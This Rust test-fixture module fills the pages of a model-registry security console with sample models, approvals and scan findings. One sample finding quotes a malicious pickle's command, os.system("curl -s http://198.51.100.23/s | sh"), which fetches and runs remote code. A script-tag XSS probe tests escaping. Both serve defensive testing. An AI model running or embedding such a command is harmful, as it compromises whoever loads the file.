//! Every page, filled with what an ordinary organisation might have.

mod decisions;

use askama::Template as _;
use sha2::{Digest as _, Sha256};

pub(in crate::console::tests) use self::decisions::proof_of;
use self::decisions::*;
use crate::console::{pages::*, parts::*};

pub(super) const NOW: u64 = 1_795_363_200; // 22 Nov 2026, 16:00
const HOUR: u64 = 3600;
const DAY: u64 = 86_400;

/// The name of each page and its HTML.
pub(super) fn pages() -> Vec<(&'static str, String)> {
    let html = |page: Result<String, askama::Error>| page.expect("every template renders");
    vec![
        ("sign-in", html(sign_in(None).render())),
        (
            "sign-in-refused",
            html(sign_in(Some("This token is not known here, or it was withdrawn.")).render()),
        ),
        ("overview", html(overview().render())),
        ("overview-empty", html(overview_empty().render())),
        ("models", html(models().render())),
        ("models-none", html(models_none().render())),
        ("version-blocked", html(version_blocked().render())),
        ("version-approved", html(version_approved().render())),
        ("files", html(files_page().render())),
        ("reviews", html(reviews().render())),
        ("review", html(review(None).render())),
        (
            "review-own",
            html(review(Some("You asked for this approval. Somebody else has to decide it.")).render()),
        ),
        ("exceptions", html(exceptions().render())),
        ("revoke", html(revoke().render())),
        ("policy", html(policy().render())),
        ("log", html(log().render())),
        ("entry", html(entry().render())),
        ("deployments", html(deployments().render())),
        ("people", html(people().render())),
        ("audit", html(audit().render())),
        ("search", html(search().render())),
        ("failure", html(failure().render())),
        ("device", html(device().render())),
    ]
}

fn frame(title: &str, place: Place) -> Frame {
    Frame {
        title: title.to_owned(),
        place,
        name: "security-lead".to_owned(),
        role: "security administrator".to_owned(),
        csrf: "0f3d5c2b".to_owned(),
        waiting: 3,
        notice: None,
    }
}

fn stranger(title: &str) -> Frame {
    Frame {
        name: String::new(),
        role: String::new(),
        csrf: String::new(),
        waiting: 0,
        ..frame(title, Place::Elsewhere)
    }
}

fn ago(seconds: u64) -> Moment {
    Moment(NOW - seconds)
}

fn digest(of: &str) -> String {
    Sha256::digest(of).iter().map(|byte| format!("{byte:02x}")).collect()
}

fn commit(of: &str) -> Short {
    Short(digest(of)[..40].to_owned())
}

fn model(name: &str) -> Link {
    Link::new(name, format!("/console/model/{name}"))
}

fn sign_in(problem: Option<&str>) -> SignIn {
    SignIn {
        frame: stranger("Sign in"),
        provider: Some(Link::new("Keycloak", "/console/sign-in/oidc")),
        next: "/console".to_owned(),
        problem: problem.map(str::to_owned),
    }
}

fn figure(label: &'static str, count: u64) -> Figure {
    Figure { label, count: Count(count), href: "/console/models".to_owned() }
}

fn running() -> Vec<DeploymentRow> {
    let row = |name: &str, stage: &str, environment: &str, place: &str, by: &str, seen| DeploymentRow {
        model: model(name),
        version: commit(name),
        stage: Mark::of_stage(stage),
        environment: environment.to_owned(),
        place: place.to_owned(),
        by: by.to_owned(),
        seen: ago(seen),
    };
    vec![
        row(
            "claims/triage-classifier",
            "revoked",
            "production",
            "cluster-eu/claims, InferenceService triage",
            "webhook",
            90,
        ),
        row(
            "mistral-community/Mixtral-8x22B-Instruct-v0.1",
            "production",
            "production",
            "gpu-07.fra",
            "guard of the host",
            45,
        ),
        row(
            "sentence-transformers/all-MiniLM-L6-v2",
            "production",
            "production",
            "cluster-eu/search, Deployment embed",
            "webhook",
            120,
        ),
        row(
            "acme/contract-summariser",
            "approved",
            "staging",
            "cluster-eu/legal-staging, Pod summarise-0",
            "webhook",
            600,
        ),
        row("openai-community/gpt2", "deprecated", "staging", "notebook-14", "alnage run", 5 * HOUR),
    ]
}

fn events() -> Vec<Event> {
    let event = |seconds, tone, what: &str, subject: &str, who: &str, entry: u64, reason: &str| Event {
        when: ago(seconds),
        tone,
        what: what.to_owned(),
        subject: if subject.is_empty() { Link::default() } else { model(subject) },
        who: who.to_owned(),
        entry: Link::new(format!("log entry {entry}"), format!("/console/log/{entry}")),
        reason: reason.to_owned(),
    };
    vec![
        event(
            20 * 60,
            Tone::Bad,
            "Revoked",
            "claims/triage-classifier",
            "security-lead",
            4127,
            "training data holds personal data that was to be deleted",
        ),
        event(
            2 * HOUR,
            Tone::Good,
            "Approved",
            "acme/contract-summariser",
            "risk-officer, security-lead",
            4126,
            "reviewed with the legal team; staging only",
        ),
        event(
            3 * HOUR,
            Tone::Bad,
            "Rejected by the policy",
            "free-llm-weights/llama-3-8b-uncensored",
            "system",
            4125,
            "",
        ),
        event(
            3 * HOUR + 400,
            Tone::Wait,
            "Quarantined",
            "free-llm-weights/llama-3-8b-uncensored",
            "build-agent",
            4124,
            "",
        ),
        event(
            26 * HOUR,
            Tone::Good,
            "Moved to production",
            "sentence-transformers/all-MiniLM-L6-v2",
            "risk-officer",
            4119,
            "search team, change 2291",
        ),
    ]
}

fn overview() -> Overview {
    Overview {
        frame: frame("Overview", Place::Overview),
        headline: "One recalled model still runs, and three requests wait for a decision.".to_owned(),
        standing: "Policy pack default decides. The log has 4,128 entries and its last checkpoint is 20 minutes old.".to_owned(),
        figures: vec![
            figure("models", 1284),
            figure("versions", 3907),
            figure("in production", 86),
            figure("in quarantine", 12),
            figure("rejected", 41),
            figure("revoked", 7),
        ],
        attention: vec![
            Attention {
                what: model("claims/triage-classifier"),
                mark: Mark::of_stage("revoked"),
                why: "Revoked, and still reported from one place in production".to_owned(),
                since: Span(20 * 60),
                action: Link::new("See where", "/console/deployments?only=refused"),
            },
            Attention {
                what: model("vision-lab/yolo-parts-v9"),
                mark: Mark::of_verdict("review"),
                why: "Approval asked by vision-engineer: assembly line 4, camera upgrade".to_owned(),
                since: Span(2 * DAY),
                action: Link::new("Decide", "/console/review/311"),
            },
            Attention {
                what: model("Qwen/Qwen2.5-7B-Instruct"),
                mark: Mark::of_verdict("unknown"),
                why: "Approval asked by build-agent: nightly evaluation".to_owned(),
                since: Span(5 * HOUR),
                action: Link::new("Decide", "/console/review/314"),
            },
            Attention {
                what: model("acme/fraud-gbm"),
                mark: Mark::new("Expires", Tone::Look),
                why: "Its approval ends in 3 d".to_owned(),
                since: Span(87 * DAY),
                action: Link::new("Renew", "/console/model/acme/fraud-gbm#approvals"),
            },
        ],
        running: running(),
        running_total: Count(138),
        waiting: vec![
            Waiting { model: model("meta-llama/Llama-3.3-70B-Instruct"), what: "Coming in: 61.2 GB of 141 GB".to_owned(), since: Span(9 * 60) },
            Waiting { model: model("BAAI/bge-m3"), what: "Scan, attempt 1".to_owned(), since: Span(40) },
            Waiting { model: model("vision-lab/yolo-parts-v9"), what: "A decision".to_owned(), since: Span(2 * DAY) },
        ],
        waiting_total: Count(12),
        blocked: vec![
            Blocked { model: model("free-llm-weights/llama-3-8b-uncensored"), stage: Mark::of_stage("rejected"), reason: "pytorch_model.bin runs os.system when it is loaded".to_owned(), rule: "default/verdict-block".to_owned() },
            Blocked { model: model("claims/triage-classifier"), stage: Mark::of_stage("revoked"), reason: "training data holds personal data that was to be deleted".to_owned(), rule: "revoked by security-lead".to_owned() },
            Blocked { model: model("huggingfase/bert-base-uncased"), stage: Mark::of_stage("rejected"), reason: "the publisher's name is one letter away from a known one".to_owned(), rule: "default/lookalike-publisher".to_owned() },
        ],
        blocked_total: Count(48),
        events: events(),
    }
}

fn overview_empty() -> Overview {
    Overview {
        frame: Frame { waiting: 0, ..frame("Overview", Place::Overview) },
        headline: "Nothing is here yet.".to_owned(),
        standing: "Point a client at this server with HF_ENDPOINT, and what it asks for comes in.".to_owned(),
        figures: vec![figure("models", 0), figure("versions", 0), figure("in production", 0)],
        attention: Vec::new(),
        running: Vec::new(),
        running_total: Count(0),
        waiting: Vec::new(),
        waiting_total: Count(0),
        blocked: Vec::new(),
        blocked_total: Count(0),
        events: Vec::new(),
    }
}

fn models() -> Models {
    let row = |name: &str, kind: &str, verdict: &str, stage: &str, owner: &str, seconds| ModelRow {
        model: model(name),
        kind: kind.to_owned(),
        version: commit(name),
        verdict: Mark::of_verdict(verdict),
        stage: Mark::of_stage(stage),
        owner: owner.to_owned(),
        changed: ago(seconds),
    };
    Models {
        frame: frame("Models", Place::Models),
        filter: Filter::new("", "", "", ""),
        rows: vec![
            row("acme/contract-summariser", "model", "pass", "approved", "legal", 2 * HOUR),
            row("acme/contracts-eval", "dataset", "pass", "approved", "legal", 4 * DAY),
            row("acme/fraud-gbm", "model", "review", "production", "payments", 87 * DAY),
            row("BAAI/bge-m3", "model", "", "quarantined", "search", 40),
            row("claims/triage-classifier", "model", "pass", "revoked", "claims", 1200),
            row("free-llm-weights/llama-3-8b-uncensored", "model", "block", "rejected", "none", 3 * HOUR),
            row(
                "mistral-community/Mixtral-8x22B-Instruct-v0.1",
                "model",
                "pass",
                "production",
                "platform",
                31 * DAY,
            ),
            row("openai-community/gpt2", "model", "pass", "deprecated", "platform", 200 * DAY),
            row("Qwen/Qwen2.5-7B-Instruct", "model", "unknown", "quarantined", "platform", 5 * HOUR),
            row("vision-lab/yolo-parts-v9", "model", "review", "quarantined", "manufacturing", 2 * DAY),
        ],
        pages: Pages {
            first: String::new(),
            next: "/console/models?after=vision-lab%2Fyolo-parts-v9".to_owned(),
        },
    }
}

fn models_none() -> Models {
    Models {
        rows: Vec::new(),
        pages: Pages::default(),
        filter: Filter::new("<script>alert(1)</script>", "", "block", "rejected"),
        ..models()
    }
}

fn finding(
    severity: &str,
    code: &str,
    name: &str,
    artifact: &str,
    message: &str,
    evidence: &str,
    way_out: &str,
) -> FindingRow {
    FindingRow {
        severity: Mark::of_severity(severity),
        code: code.to_owned(),
        name: name.to_owned(),
        artifact: artifact.to_owned(),
        span: "bytes 214 to 289".to_owned(),
        message: message.to_owned(),
        evidence: evidence.to_owned(),
        way_out: way_out.to_owned(),
        confidence: "high".to_owned(),
        references: vec![
            Link::new("CWE-502", "https://cwe.mitre.org/data/definitions/502.html"),
            Link::new("AML.T0011.000", ""),
        ],
    }
}

fn findings() -> Vec<FindingRow> {
    vec![
        finding(
            "critical",
            "PKL004",
            "pickle-dangerous-call",
            "pytorch_model.bin!/archive/data.pkl",
            "Loading this file calls os.system with a command of the file's choice.",
            "os.system(\"curl -s http://198.51.100.23/s | sh\")",
            "Do not load this file. The same repository has model.safetensors; ask for that, or convert a clean checkpoint with alnage convert.",
        ),
        finding(
            "medium",
            "CFG002",
            "config-remote-code",
            "config.json",
            "The configuration names Python code of the repository, which transformers runs when trust_remote_code is given.",
            "\"auto_map\": {\"AutoModelForCausalLM\": \"modeling_x.LlamaX\"}",
            "Read modeling_x.py, or use the architecture of the library and remove auto_map.",
        ),
    ]
}

fn file_rows() -> Vec<FileRow> {
    let row = |path: &str, format: &str, size, served: bool, why: &str| FileRow {
        path: path.to_owned(),
        format: format.to_owned(),
        size: Size(size),
        digest: Short(digest(path)),
        served: if served { Mark::new("Served", Tone::Good) } else { Mark::new("Withheld", Tone::Bad) },
        why: why.to_owned(),
    };
    vec![
        row("README.md", "Markdown", 5312, true, ""),
        row("config.json", "Transformers configuration", 712, true, ""),
        row("model-00001-of-00002.safetensors", "safetensors", 4_976_698_672, true, ""),
        row("model-00002-of-00002.safetensors", "safetensors", 1_168_138_808, true, ""),
        row("pytorch_model.bin", "PyTorch", 6_144_900_113, false, "pickled weights beside safetensors"),
        row("tokenizer.json", "Hugging Face tokenizer", 9_085_657, true, ""),
    ]
}

fn graph() -> Graph {
    let node = |name: &str, detail: &str, mark: Mark, depth| Node {
        name: name.to_owned(),
        detail: detail.to_owned(),
        mark,
        href: if depth == 0 { String::new() } else { format!("/console/model/{name}") },
        depth,
    };
    Graph {
        nodes: vec![
            node("acme/contract-summariser", "this version", Mark::of_stage("approved"), 0),
            node("mistralai/Mistral-7B-v0.3", "base model", Mark::of_stage("production"), -1),
            node("acme/contracts-2019-2025", "dataset", Mark::of_stage("approved"), -1),
            node("pile-of-law/pile-of-law", "dataset", Mark::new("Not here", Tone::Quiet), -1),
            node("acme/contract-summariser-gguf", "quantised", Mark::of_stage("approved"), 1),
            node("acme/contract-summariser-de", "fine-tuned", Mark::of_stage("quarantined"), 1),
            node("legal/clause-finder", "fine-tuned", Mark::of_stage("production"), 2),
        ],
        edges: vec![
            Edge { from: 1, to: 0 },
            Edge { from: 2, to: 0 },
            Edge { from: 3, to: 0 },
            Edge { from: 0, to: 4 },
            Edge { from: 0, to: 5 },
            Edge { from: 5, to: 6 },
        ],
        more: 0,
    }
}

fn bom() -> Vec<BomField> {
    let field = |name: &str, value: &str, source: &str| BomField {
        name: name.to_owned(),
        value: value.to_owned(),
        source: source.to_owned(),
    };
    vec![
        field("Architecture", "MistralForCausalLM", "config.json, architectures"),
        field("Parameters", "7,248,023,552", "counted in model-00001-of-00002.safetensors and one more"),
        field("Licence", "apache-2.0", "README.md, front matter"),
        field("Base model", "mistralai/Mistral-7B-v0.3", "README.md, front matter"),
        field("Datasets", "acme/contracts-2019-2025, pile-of-law/pile-of-law", "README.md, front matter"),
        field("Context length", "32,768", "config.json, max_position_embeddings"),
        field("Precision", "bfloat16", "headers of the weights"),
    ]
}

fn reasons() -> Vec<Reason> {
    vec![
        Reason {
            effect: Mark::of_effect("deny"),
            rule: "default/verdict-block".to_owned(),
            message: "The verdict is block: pytorch_model.bin runs code when it is loaded.".to_owned(),
        },
        Reason {
            effect: Mark::of_effect("quarantine"),
            rule: "default/remote-code".to_owned(),
            message: "config.json asks for code of the repository.".to_owned(),
        },
    ]
}

fn version_blocked() -> Version {
    let name = "free-llm-weights/llama-3-8b-uncensored";
    Version {
        frame: frame(name, Place::Models),
        crumbs: vec![Link::new("Models", "/console/models"), Link::new("free-llm-weights", "/console/models?q=free-llm-weights"), Link::new("llama-3-8b-uncensored", format!("/console/model/{name}"))],
        name: name.to_owned(),
        commit: commit(name).0,
        actions: vec![Link::new("Grant an exception", "/console/exceptions?version=x"), Link::new("Revoke", "/console/revoke/x")],
        verdict: Mark::of_verdict("block"),
        answer: "Blocked: clients are refused".to_owned(),
        because: "One finding would execute the attacker's choice of code when the model is loaded, so the policy rejected this version.".to_owned(),
        reasons: reasons(),
        way_out: "Use another version, or convert a clean checkpoint. A reviewer can except one rule for a while.".to_owned(),
        facts: facts(),
        findings: findings(),
        findings_total: Count(2),
        findings_more: 0,
        record_href: "/api/v1/scans/1".to_owned(),
        scanned: "Scanned 22 Nov 2026, 13:00 with rules 2026.11".to_owned(),
        no_findings: "The scan found nothing.",
        files: file_rows(),
        files_total: Count(6),
        files_href: "/console/files/model/x".to_owned(),
        size: Size(12_298_829_274),
        bom: bom(),
        bom_href: "/api/v1/boms/1".to_owned(),
        seals: Vec::new(),
        seals_checked: String::new(),
        lineage: Graph::default(),
        lineage_rows: Vec::new(),
        blast_href: "/console/revoke/model/x".to_owned(),
        deployments: Vec::new(),
        approvals: Vec::new(),
        may_ask: true,
        ask_action: "/console/model/x/ask".to_owned(),
        moves: Vec::new(),
        move_action: "/console/model/x/stage".to_owned(),
        events: events().into_iter().skip(2).take(2).map(|event| Event { subject: Link::default(), ..event }).collect(),
    }
}

fn facts() -> Vec<Fact> {
    let fact = |label, value: &str| Fact { label, value: value.to_owned() };
    vec![
        fact("Stage", "rejected, since 22 Nov 2026, 13:00"),
        fact("Origin", "huggingface.co, pulled for build-agent"),
        fact("Manifest", "sha256:9a1b55c3d1f00f4e2f8f0a2f5b0a9b4c7d22e1a07c6cfd1d2ab3f0e94c51d7aa"),
        fact("References", "main"),
        fact("Owner", "none"),
    ]
}

fn version_approved() -> Version {
    let name = "acme/contract-summariser";
    Version {
        frame: Frame { notice: Some(Notice::done("Approved. Log entry 4,126 says so under your name.")), ..frame(name, Place::Models) },
        crumbs: vec![Link::new("Models", "/console/models"), Link::new("acme", "/console/models?q=acme"), Link::new("contract-summariser", format!("/console/model/{name}"))],
        name: name.to_owned(),
        commit: commit(name).0,
        actions: vec![Link::new("Move to production", "/console/stage/x"), Link::new("Revoke", "/console/revoke/x")],
        verdict: Mark::of_verdict("pass"),
        answer: "Approved: clients get it".to_owned(),
        because: "Everything was read and nothing in it asks for a person. Two reviewers approved it until 20 Feb 2027.".to_owned(),
        reasons: Vec::new(),
        way_out: String::new(),
        findings: Vec::new(),
        findings_total: Count(0),
        seals: vec![
            SealRow { kind: "Model signature".to_owned(), method: "OpenSSF model signing, keyless".to_owned(), identity: "https://gitlab.example/acme/contract-summariser//.gitlab-ci.yml@refs/heads/main".to_owned(), issuer: "https://gitlab.example".to_owned(), covers: "all 6 files".to_owned(), mark: Mark::new("Holds", Tone::Good), problem: String::new() },
            SealRow { kind: "Verdict and bill of materials".to_owned(), method: "DSSE, Ed25519".to_owned(), identity: "alnage.example/registry".to_owned(), issuer: "key 3f9ac2d1".to_owned(), covers: "this manifest".to_owned(), mark: Mark::new("Holds", Tone::Good), problem: String::new() },
        ],
        seals_checked: "Verified 22 Nov 2026, 16:00, while this page was made, in 2 ms".to_owned(),
        lineage: graph(),
        lineage_rows: vec![
            Relative { relation: "made from (base model)".to_owned(), what: model("mistralai/Mistral-7B-v0.3"), stage: Mark::of_stage("production") },
            Relative { relation: "made from (dataset)".to_owned(), what: model("acme/contracts-2019-2025"), stage: Mark::of_stage("approved") },
            Relative { relation: "quantised into".to_owned(), what: model("acme/contract-summariser-gguf"), stage: Mark::of_stage("approved") },
        ],
        deployments: running().into_iter().skip(3).take(1).collect(),
        approvals: vec![
            VoteRow { who: "vision-engineer".to_owned(), mark: Mark::new("Asked", Tone::Wait), reason: "summaries for the legal team's pilot".to_owned(), conditions: String::new(), until: Until(None), when: ago(DAY) },
            VoteRow { who: "risk-officer".to_owned(), mark: Mark::new("Approved", Tone::Good), reason: "reviewed with the legal team; staging only".to_owned(), conditions: "target.environment != \"production\"".to_owned(), until: Until(Some(NOW + 90 * DAY)), when: ago(3 * HOUR) },
            VoteRow { who: "security-lead".to_owned(), mark: Mark::new("Approved", Tone::Good), reason: "agreed".to_owned(), conditions: String::new(), until: Until(Some(NOW + 90 * DAY)), when: ago(2 * HOUR) },
        ],
        may_ask: false,
        moves: choices(&[("production", "In production"), ("deprecated", "Deprecated")]),
        events: events().into_iter().map(|event| Event { subject: Link::default(), ..event }).collect(),
        ..version_blocked()
    }
}

fn files_page() -> Files {
    Files {
        frame: frame("Files", Place::Models),
        crumbs: vec![Link::new("Models", "/console/models"), model("acme/contract-summariser")],
        total: Count(1_204),
        size: Size(12_298_829_274),
        action: "/console/files/model/acme/contract-summariser".to_owned(),
        prefix: String::new(),
        files: file_rows(),
        pages: Pages { first: "/console/files/x".to_owned(), next: "/console/files/x?after=y".to_owned() },
    }
}
